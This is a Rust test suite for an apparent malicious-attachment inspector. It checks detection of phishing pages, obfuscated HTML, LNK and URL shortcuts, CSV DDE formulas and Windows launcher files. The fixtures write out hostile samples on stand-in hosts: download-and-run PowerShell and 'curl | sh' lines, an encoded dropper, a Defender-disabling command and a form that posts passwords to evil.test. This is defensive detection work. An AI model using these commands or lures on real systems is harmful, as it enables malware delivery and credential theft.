//! Pages, scripts and small files that start something.

mod both;
mod build;

use both::inspect;
use build::lnk;
use miwake_basics::base64;
use miwake_inspect::{File, Hints, IndicatorKind, Limits, LinkSource};

fn first(name: &str, bytes: &[u8]) -> File {
    inspect(name, bytes, &Hints::default(), &Limits::DEFAULT)
        .files
        .into_iter()
        .next()
        .expect("the attachment itself is always told")
}

fn has(file: &File, kind: IndicatorKind) -> bool {
    file.indicators
        .iter()
        .any(|indicator| indicator.kind == kind)
}

fn quote(file: &File, kind: IndicatorKind) -> &str {
    let indicator = file
        .indicators
        .iter()
        .find(|indicator| indicator.kind == kind);
    indicator.map_or("", |indicator| &indicator.quote)
}

fn hrefs(file: &File, from: LinkSource) -> Vec<&str> {
    let links = file.links.iter().filter(|link| link.from == from);
    links.map(|link| link.href.as_str()).collect()
}

const PHISH: &str = "<html><body><form method=post action='https://collect.example/in.php'>\
    <input name=u><input type=password name=p></form><a href='https://help.example/'>Help</a></body></html>";

#[test]
fn a_page_that_asks_for_a_password_says_where_it_goes() {
    let file = first("invoice.html", PHISH.as_bytes());
    assert_eq!(file.format, "html");
    assert!(has(&file, IndicatorKind::PasswordField));
    assert_eq!(
        quote(&file, IndicatorKind::ForeignForm),
        "https://collect.example/in.php"
    );
    assert_eq!(
        hrefs(&file, LinkSource::Form),
        ["https://collect.example/in.php"]
    );
    assert_eq!(hrefs(&file, LinkSource::Link), ["https://help.example/"]);
}

#[test]
fn an_ordinary_page_has_no_signs() {
    let page = "<!doctype html><html><head><title>x</title><style>p{}</style></head><body><p>Hello</p>\
        <a href='https://example.jp/'>Home</a><script>var a=1;document.getElementById('x').onclick=function(){location.href='#x'}</script>\
        <img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'></body></html>";
    let file = first("a.html", page.as_bytes());
    assert_eq!(file.indicators, []);
    assert_eq!(hrefs(&file, LinkSource::Link), ["https://example.jp/"]);
}

#[test]
fn encoded_pages_are_read_through_three_layers() {
    let mut page = PHISH.to_owned();
    for layer in 1..=4 {
        page = format!(
            "<html><script>document.write(atob('{}'))</script></html>",
            base64::encode(page.as_bytes())
        );
        let file = first("a.htm", page.as_bytes());
        assert!(has(&file, IndicatorKind::Obfuscated), "{layer}");
        assert_eq!(
            has(&file, IndicatorKind::PasswordField),
            layer <= 3,
            "{layer}"
        );
    }
    let percent: String = PHISH.bytes().map(|b| format!("%{b:02x}")).collect();
    let page = format!("<script>document.write(unescape('{percent}'))</script>");
    assert!(has(
        &first("a.html", page.as_bytes()),
        IndicatorKind::PasswordField
    ));
    let codes: Vec<String> = PHISH.bytes().map(|b| b.to_string()).collect();
    let page = format!(
        "<script>document.write(String.fromCharCode({}))</script>",
        codes.join(",")
    );
    assert!(has(
        &first("a.html", page.as_bytes()),
        IndicatorKind::PasswordField
    ));
    let page = format!(
        "<html><iframe src=\"data:text/html;base64,{}\"></iframe></html>",
        base64::encode(PHISH.as_bytes())
    );
    assert!(has(
        &first("a.html", page.as_bytes()),
        IndicatorKind::PasswordField
    ));
}

#[test]
fn a_page_that_builds_a_file_gives_the_file_away() {
    let lnk = lnk::Lnk {
        path: "C:\\Windows\\System32\\mshta.exe",
        arguments: "https://x.test/a.hta",
        ..lnk::Lnk::default()
    };
    let page = format!(
        "<html><script>var d='{}';var b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);\
         var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='Invoice.lnk';a.click()</script></html>",
        base64::encode(&lnk.build())
    );
    let inside = inspect(
        "a.html",
        page.as_bytes(),
        &Hints::default(),
        &Limits::DEFAULT,
    );
    let [outer, inner] = inside.files.as_slice() else {
        panic!("two files: {:?}", inside.files);
    };
    assert!(has(outer, IndicatorKind::BuildsFile));
    assert_eq!((inner.parent, inner.format.as_str()), (Some(0), "lnk"));
    assert!(quote(inner, IndicatorKind::RunsCommand).ends_with("mshta.exe https://x.test/a.hta"));
}

#[test]
fn redirects_and_loaded_scripts_and_clipboard_commands_are_told() {
    let page = "<html><meta http-equiv=refresh content='0;url=https://go.test/'></html>";
    assert_eq!(
        quote(&first("a.html", page.as_bytes()), IndicatorKind::Redirects),
        "https://go.test/"
    );
    let page = "<html><script>window.location.href = \"https://go.test/b\";</script></html>";
    assert_eq!(
        quote(&first("a.html", page.as_bytes()), IndicatorKind::Redirects),
        "https://go.test/b"
    );
    let page = "<html><script src=https://cdn.test/k.js></script></html>";
    assert_eq!(
        quote(
            &first("a.html", page.as_bytes()),
            IndicatorKind::LoadsScript
        ),
        "https://cdn.test/k.js"
    );
    let page = "<html><button onclick=\"navigator.clipboard.writeText('powershell -w h -c iwr https://x.test')\">Verify</button></html>";
    assert!(
        quote(
            &first("a.html", page.as_bytes()),
            IndicatorKind::CopiesCommand
        )
        .contains("powershell")
    );
}

#[test]
fn a_script_in_a_picture_is_told() {
    let svg = "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[ location='https://go.test/' ]]></script></svg>";
    let file = first("logo.svg", svg.as_bytes());
    assert_eq!(file.format, "svg");
    assert!(has(&file, IndicatorKind::Script) && has(&file, IndicatorKind::Redirects));
    let plain = "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0L1 1'/></svg>";
    assert_eq!(first("logo.svg", plain.as_bytes()).indicators, []);
}

#[test]
fn pages_that_are_xml_are_read_as_browsers_do() {
    const SVG: &str = "http://www.w3.org/2000/svg";
    const HTML: &str = "http://www.w3.org/1999/xhtml";
    // Name, source, whether a script is in it, where it leads.
    let script = "location='https://go.test/'";
    for (name, source, format) in [
        (
            "a.svg",
            format!("<s:svg xmlns:s='{SVG}'><s:script>{script}</s:script></s:svg>"),
            "svg",
        ),
        (
            "a.svg",
            format!("<svg xmlns='{SVG}'><script>loc&#97;tion='https://go.test/'</script></svg>"),
            "svg",
        ),
        (
            "a.svg",
            format!(
                "<!DOCTYPE svg [<!ENTITY s \"{script}\">]><svg xmlns='{SVG}'><script>&s;</script></svg>"
            ),
            "svg",
        ),
        (
            "a.svg",
            format!("<svg xmlns='{SVG}'><rect onpointerenter=\"{script}\"/></svg>"),
            "svg",
        ),
        (
            "a.svg",
            format!(
                "<svg xmlns='{SVG}'><a><set attributeName='href' to=\"javascript:{script}\"/></a></svg>"
            ),
            "svg",
        ),
        (
            "a.svg",
            format!(
                "<!--{}--><svg xmlns='{SVG}'><script>{script}</script></svg>",
                " ".repeat(9_000)
            ),
            "svg",
        ),
        (
            "a.png",
            format!("<?xml version='1.0'?><svg xmlns='{SVG}'><script>{script}</script></svg>"),
            "svg",
        ),
        (
            "a.xml",
            format!(
                "<?xml version='1.0'?><h:html xmlns:h='{HTML}'><h:script>{script}</h:script></h:html>"
            ),
            "xhtml",
        ),
        (
            "a.xml",
            format!("<?xml version='1.0'?><a><b xmlns='{HTML}'><script>{script}</script></b></a>"),
            "xhtml",
        ),
        (
            "a.xhtml",
            format!("<h:html xmlns:h='{HTML}'><h:body onload=\"{script}\"/></h:html>"),
            "xhtml",
        ),
    ] {
        let file = first(name, source.as_bytes());
        assert_eq!(file.format, format, "{source}");
        assert_eq!(
            hrefs(&file, LinkSource::Fetched),
            ["https://go.test/"],
            "{source}"
        );
        assert_eq!(
            has(&file, IndicatorKind::Script),
            format == "svg",
            "{source}"
        );
        assert!(has(&file, IndicatorKind::Redirects), "{source}");
        assert_eq!(file.unread, [], "{source}");
    }
    for link in [
        format!(
            "<!DOCTYPE svg [<!ENTITY u 'https://to.test/'>]><svg xmlns='{SVG}'><a href='&u;'>x</a></svg>"
        ),
        format!(
            "<svg xmlns='{SVG}'><a><animate attributeName='href' values='https://to.test/'/></a></svg>"
        ),
        format!(
            "<s:svg xmlns:s='{SVG}' xmlns:x='y'><s:a x:href='https://to.test/'>x</s:a></s:svg>"
        ),
    ] {
        let file = first("a.svg", link.as_bytes());
        assert_eq!(
            hrefs(&file, LinkSource::Link),
            ["https://to.test/"],
            "{link}"
        );
        assert_eq!(file.indicators, [], "{link}");
    }
    let data = "<?xml version='1.0'?><?xml-stylesheet href='kousei.xsl'?><order><script>1</script></order>";
    let file = first("a.xml", data.as_bytes());
    assert_eq!(
        (file.format.as_str(), file.indicators.as_slice()),
        ("xml", &[][..])
    );
}

#[test]
fn nothing_is_hidden_by_crowds_on_a_page() {
    let page = |decoy: &str, most: usize, evil: &str| {
        let source = format!(
            "<html><body><p>x</p>{}{evil}</body></html>",
            decoy.repeat(most)
        );
        first("a.html", source.as_bytes())
    };
    let file = page(
        "<script src='a.js'></script>",
        300,
        "<script src = 'https://evil.test/a.js'></script>",
    );
    assert_eq!(
        quote(&file, IndicatorKind::LoadsScript),
        "https://evil.test/a.js"
    );
    let file = page(
        "<script>location.href = a;</script>",
        300,
        "<script>location.href = 'https://evil.test/'</script>",
    );
    assert_eq!(quote(&file, IndicatorKind::Redirects), "https://evil.test/");
    let file = page(
        "<p onclick='a()'>",
        300,
        "<p onclick=\"location='https://evil.test/'\">",
    );
    assert_eq!(quote(&file, IndicatorKind::Redirects), "https://evil.test/");
    // "<b>nothing of note</b>" in base64, then a form.
    let decoy = "<script>a('PGI+bm90aGluZyBvZiBub3RlIGF0IGFsbCBpcyBoZXJlPC9iPg==')</script>";
    let form = "<script>a('PGZvcm0gYWN0aW9uPSJodHRwczovL2V2aWwudGVzdC8iPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4=')</script>";
    let file = page(decoy, 400, form);
    assert!(has(&file, IndicatorKind::PasswordField));
    assert_eq!(file.unread, []);
    let urls: String = (0..300)
        .map(|n| format!("a{n}.png https://www.w3.org/{n} "))
        .collect();
    let sends = format!(
        "<script>/* {urls} */ fetch('https://evil.test/', {{method: 'POST', body: password.value}})</script>"
    );
    let file = page("", 0, &sends);
    assert_eq!(
        quote(&file, IndicatorKind::ForeignForm),
        "https://evil.test/"
    );
}

#[test]
fn tables_with_commands_are_tables() {
    let dde = "=cmd|'/c powershell -w hidden iwr https://evil.test/a -o a.exe'!A0";
    for table in [
        format!("name,price\r\nbolt,12\r\n{dde},1\r\n"),
        format!("{dde}\r\n"),
        "a;b\r\n1;\"@SUM(1+9)*cmd|' /C calc'!A0\"\r\n".to_owned(),
        format!("={}+cmd|' /C calc'!A0\r\n", "1+".repeat(2_000)),
    ] {
        let file = first("orders.csv", table.as_bytes());
        assert_eq!(file.format, "csv");
        assert!(has(&file, IndicatorKind::Dde), "{table}");
    }
    assert_eq!(
        first("orders.csv", b"a,b\r\n-1,+2\r\n=A1+B1,c|d\r\n").indicators,
        []
    );
}

#[test]
fn a_saved_page_is_read_part_by_part() {
    let mht = format!(
        "From: <Saved by Blink>\r\nSnapshot-Content-Location: file:///a\r\nSubject: x\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/related; boundary=b; type=\"text/html\"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{PHISH}\r\n--b--\r\n"
    );
    let file = first("page.mht", mht.as_bytes());
    assert_eq!(file.format, "mht");
    assert!(has(&file, IndicatorKind::PasswordField));
}

#[test]
fn shell_links_show_their_command() {
    let link = lnk::Lnk {
        path: "C:\\Windows\\System32\\cmd.exe",
        arguments: "/c start /min powershell -w hidden -c \"iwr https://drop.test/a.ps1 | iex\"",
        icon: "\\\\share.test\\x\\pdf.ico",
        minimised: true,
        ..lnk::Lnk::default()
    };
    let file = first("Invoice.pdf.lnk", &link.build());
    assert!(
        quote(&file, IndicatorKind::RunsCommand)
            .starts_with("C:\\Windows\\System32\\cmd.exe /c start")
    );
    for kind in [
        IndicatorKind::HiddenWindow,
        IndicatorKind::ScriptFetches,
        IndicatorKind::ScriptRuns,
        IndicatorKind::OpensRemote,
    ] {
        assert!(has(&file, kind), "{kind:?}");
    }
    assert_eq!(hrefs(&file, LinkSource::Text), ["https://drop.test/a.ps1"]);
    let share = lnk::Lnk {
        share: Some(("\\\\evil.test\\pub", "run.exe")),
        ..lnk::Lnk::default()
    };
    let file = first("a.lnk", &share.build());
    assert_eq!(
        quote(&file, IndicatorKind::OpensRemote),
        "\\\\evil.test\\pub\\run.exe"
    );
    let url = lnk::Lnk {
        url: "https://login.test/",
        ..lnk::Lnk::default()
    };
    assert_eq!(
        hrefs(&first("a.lnk", &url.build()), LinkSource::Fetched),
        ["https://login.test/"]
    );
    let plain = lnk::Lnk {
        path: "C:\\Users\\me\\Documents\\report.docx",
        ..lnk::Lnk::default()
    };
    assert_eq!(first("a.lnk", &plain.build()).indicators, []);
}

#[test]
fn small_launchers_are_told_by_their_text() {
    for (name, text, format, kind) in [
        (
            "a.url",
            "[InternetShortcut]\r\nURL=file://evil.test/share/x.exe\r\n",
            "url",
            IndicatorKind::OpensRemote,
        ),
        (
            "a.url",
            "[InternetShortcut]\r\nURL=https://a.test\r\nIconFile=\\\\evil.test\\i.ico\r\n",
            "url",
            IndicatorKind::OpensRemote,
        ),
        (
            "a.website",
            "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=file:///C:/Windows/calc.exe\r\n",
            "website",
            IndicatorKind::RunsCommand,
        ),
        (
            "a.library-ms",
            "<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>\\\\evil.test@SSL\\dav</url></simpleLocation></libraryDescription>",
            "library-ms",
            IndicatorKind::OpensRemote,
        ),
        (
            "a.search-ms",
            "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include path=\"\\\\evil.test\\x\"/></scope></query></persistedQuery>",
            "search-ms",
            IndicatorKind::OpensRemote,
        ),
        (
            "a.settingcontent-ms",
            "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>",
            "settingcontent-ms",
            IndicatorKind::RunsCommand,
        ),
        (
            "a.scf",
            "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.test\\share\\i.ico\r\n",
            "scf",
            IndicatorKind::OpensRemote,
        ),
        (
            "a.desktop",
            "[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://x.test | sh'\n",
            "desktop",
            IndicatorKind::RunsCommand,
        ),
        (
            "a.reg",
            "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"mshta https://x.test\"\r\n",
            "reg",
            IndicatorKind::ChangesSettings,
        ),
        (
            "a.iqy",
            "WEB\r\n1\r\nhttps://x.test/q.dat\r\n",
            "iqy",
            IndicatorKind::OpensRemote,
        ),
        (
            "a.slk",
            "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc.exe\")\r\nE\r\n",
            "slk",
            IndicatorKind::ExcelFourMacro,
        ),
        (
            "a.rdp",
            "screen mode id:i:2\r\nfull address:s:rds.evil.test\r\ndrivestoredirect:s:*\r\n",
            "rdp",
            IndicatorKind::OpensRemote,
        ),
        (
            "a.mobileconfig",
            "<?xml version=\"1.0\"?><plist><dict><key>PayloadType</key><string>com.apple.security.root</string></dict></plist>",
            "mobileconfig",
            IndicatorKind::ChangesSettings,
        ),
        (
            "autorun.inf",
            "[autorun]\r\nopen=setup.exe\r\n",
            "inf",
            IndicatorKind::AutoRunFile,
        ),
        (
            "a.js",
            "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','https://x.test/p',false)",
            "js",
            IndicatorKind::ScriptFetches,
        ),
        (
            "a.vbs",
            "CreateObject(\"WScript.Shell\").Run \"calc\"",
            "vbs",
            IndicatorKind::ScriptRuns,
        ),
        ("a.jse", "#@~^XwAAAA==abc", "jse", IndicatorKind::Obfuscated),
        (
            "a.bat",
            "@echo off\r\np^o^w^e^r^s^h^e^l^l -c \"i^e^x (i^w^r https://x.test)\"\r\n",
            "bat",
            IndicatorKind::Obfuscated,
        ),
        (
            "a.ps1",
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "ps1",
            IndicatorKind::ChangesSettings,
        ),
        (
            "a.hta",
            "<html><script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>",
            "hta",
            IndicatorKind::ScriptRuns,
        ),
        (
            "x",
            "#!/bin/sh\ncurl -s https://x.test | sh\n",
            "sh",
            IndicatorKind::ScriptFetches,
        ),
    ] {
        let file = first(name, text.as_bytes());
        assert_eq!(file.format, format, "{name}");
        assert!(
            has(&file, kind),
            "{name}: {kind:?} in {:?}",
            file.indicators
        );
    }
}

#[test]
fn an_encoded_command_is_decoded() {
    let command: Vec<u8> = "iex (iwr https://drop.test/s)"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let text = format!(
        "powershell.exe -nop -w hidden -enc {}",
        base64::encode(&command)
    );
    let file = first("a.cmd", text.as_bytes());
    assert!(has(&file, IndicatorKind::Obfuscated));
    assert_eq!(hrefs(&file, LinkSource::Text), ["https://drop.test/s"]);
}

#[test]
fn registry_files_are_often_utf16() {
    let text = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CLASSES_ROOT\\x]\r\n";
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let file = first("a.reg", &bytes);
    assert_eq!(
        quote(&file, IndicatorKind::ChangesSettings),
        "HKEY_CLASSES_ROOT\\x"
    );
}

#[test]
fn calendars_give_links_and_files() {
    let ics = format!(
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://meet.test/x\r\nLOCATION:Room 5\\; https://room.test/a\r\nDESCRIPTION:Join https://join.test/a\\nnow\r\n\
         ATTACH;FMTTYPE=text/html;ENCODING=BASE64;X-FILENAME=a.html;VALUE=BINARY:{}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        base64::encode(PHISH.as_bytes())
    );
    let inside = inspect("i.ics", ics.as_bytes(), &Hints::default(), &Limits::DEFAULT);
    let [outer, inner] = inside.files.as_slice() else {
        panic!("two files: {:?}", inside.files);
    };
    assert_eq!(hrefs(outer, LinkSource::Link), ["https://meet.test/x"]);
    assert_eq!(
        hrefs(outer, LinkSource::Text),
        ["https://room.test/a", "https://join.test/a"]
    );
    assert_eq!(inner.name, "a.html");
    assert!(has(inner, IndicatorKind::PasswordField));
}

#[test]
fn damage_never_stops_reading() {
    let link = lnk::Lnk {
        path: "C:\\a.exe",
        arguments: "-x",
        icon: "i",
        url: "https://a.test",
        ..lnk::Lnk::default()
    }
    .build();
    let page = format!(
        "<html><script>document.write(atob('{}'))</script>{PHISH}</html>",
        base64::encode(PHISH.as_bytes())
    );
    let mut state = 1u32;
    for (name, bytes) in [("a.lnk", link), ("a.html", page.into_bytes())] {
        for end in 0..bytes.len() {
            first(name, bytes.get(..end).unwrap_or_default());
        }
        for _ in 0..2_000 {
            let mut broken = bytes.clone();
            for _ in 0..3 {
                state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                let at = (state >> 8) as usize % broken.len();
                if let Some(byte) = broken.get_mut(at) {
                    *byte = (state >> 3) as u8;
                }
            }
            first(name, &broken);
        }
    }
}
